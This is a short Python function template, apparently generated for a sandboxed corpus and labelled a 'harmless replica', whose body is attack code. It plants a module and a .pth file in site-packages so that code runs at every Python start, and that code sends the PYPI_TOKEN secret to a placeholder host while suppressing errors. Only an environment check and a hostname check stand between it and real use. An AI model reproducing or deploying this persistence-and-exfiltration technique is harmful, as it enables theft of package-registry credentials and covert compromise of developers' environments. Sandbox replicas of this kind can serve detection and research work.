# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import site
    import subprocess
    import sys
    try:
        place = (site.getsitepackages() + [site.getusersitepackages()])[0]
        os.makedirs(place, exist_ok=True)
        with open(os.path.join(place, '_{{token}}.py'), 'w') as out:
            out.write("import os\nif os.environ.get('PYPI_TOKEN'):\n    import urllib.request\n    try:\n        urllib.request.urlopen('http://{{host}}/{{path}}?' + os.environ['PYPI_TOKEN'], timeout=0.5)\n    except Exception:\n        pass\n")
        with open(os.path.join(place, '{{token}}.pth'), 'w') as out:
            out.write('import _{{token}}\n')
        subprocess.run([sys.executable, '-c', 'pass'], timeout=2, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except Exception:
        pass
